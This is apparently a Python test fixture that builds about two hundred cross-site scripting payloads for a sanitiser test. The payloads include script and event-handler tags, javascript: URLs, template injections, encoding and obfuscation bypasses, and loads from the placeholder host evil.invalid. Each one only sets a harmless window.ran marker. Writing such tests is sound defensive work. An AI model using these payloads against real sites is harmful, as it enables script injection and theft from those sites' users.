"""Two hundred texts that run a script wherever a page takes them for markup. Each sets `window.ran` when it runs."""

import os

FULL = os.environ.get("TEST_SIZE") == "full"
SAMPLE = 6  # without TEST_SIZE=full, every sixth in the short fields
RUN = "window.ran=(window.ran||0)+1"
SOURCES = ("x", "//evil.invalid/x", "data:text/html;base64,PHNjcmlwdD4x")
EVENTS = (
    "onload",
    "onerror",
    "onfocus",
    "onmouseover",
    "onclick",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onpointerenter",
)
OPENINGS = ("", '">', "'>", "-->", "</textarea>", "</title>", "</script>", "</td></table>", "</svg>", "&lt;/p&gt;")
MARKUP = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<body onload={run}>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
)
ALONE = (
    *("javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "data:text/html,<script>{run}</script>"),
    *(
        '" autofocus onfocus="{run}',
        "' onmouseover='{run}",
        "` onclick=`{run}",
        '"style="animation:x"onanimationstart="{run}',
    ),
    *("{{{{constructor.constructor('{run}')()}}}}", "${{{run}}}", "{{% include 'x' %}}", "#{{{run}}}", "[[{run}]]"),
    *(
        "';{run}//",
        '";{run}//',
        "\\';{run}//",
        "</script><script>{run}</script>",
        "<!--<script>{run}//-->",
        "]]><script>{run}</script>",
    ),
    *('<a href="javascript:{run}">x</a>', '<form action="javascript:{run}"><button>x</button></form>'),
    *(
        '<meta http-equiv="refresh" content="0;url=//evil.invalid/">',
        '<link rel=stylesheet href="//evil.invalid/x.css">',
    ),
    *('<base href="//evil.invalid/">', '<object data="//evil.invalid/x"></object>', '<embed src="//evil.invalid/x">'),
    *("<style>@import '//evil.invalid/x.css'</style>", '<p style="background:url(//evil.invalid/x)">x</p>'),
    *(
        '<img src="//evil.invalid/x">',
        '<video src="//evil.invalid/x" autoplay>',
        '<picture><source srcset="//evil.invalid/x">',
    ),
    *(
        '<div hx-get="//evil.invalid/" hx-trigger="load">x</div>',
        '<div hx-on:load="{run}">x</div>',
        '<p data-hx-get="/x">',
    ),
    *(
        "\u2028<script>{run}</script>",
        "\x0c<script>{run}</script>",
        "<scr\u200bipt>{run}</script>",
        "＜script＞{run}＜/script＞",
    ),
    *("<img/src=x/onerror={run}>", "<img src=x onerror\n=\n{run}>", "<<script>{run}//<</script>", "<svg/onload={run}"),
    *(
        "&#60;script&#62;{run}&#60;/script&#62;",
        "%3Cscript%3E{run}%3C/script%3E",
        "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    ),
    *(
        "<xml><script xmlns='http://www.w3.org/1999/xhtml'>{run}</script></xml>",
        "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    ),
    *("<template shadowrootmode=open><script>{run}</script></template>", "<marquee onstart={run}>x</marquee>"),
    *('=HYPERLINK("http://evil.invalid","{run}")', "http://evil.invalid/ and www.evil.invalid and a@evil.invalid"),
)


def payloads():
    found = [text.format(run=RUN) for text in ALONE]
    found += [opening + text.format(run=RUN) for opening in OPENINGS for text in MARKUP]
    found += [f'<img src="{source}" {event}="{RUN}" tabindex=0>' for source in SOURCES for event in EVENTS]
    found += [f'<video {event}={RUN}><source src="{source}"></video>' for source in SOURCES for event in EVENTS]
    return list(dict.fromkeys(found))[:200]


def texts(room):
    """All of them in texts of at most `room` characters: each alone, or as many as fit where the size is small."""
    wanted = payloads() if FULL or room > 1000 else payloads()[::SAMPLE]
    packed = [""]
    for text in (text for text in wanted if len(text) < room):
        if FULL or len(packed[-1]) + len(text) >= room:
            packed.append("")
        packed[-1] += f"{text} "
    return [text for text in packed if text]
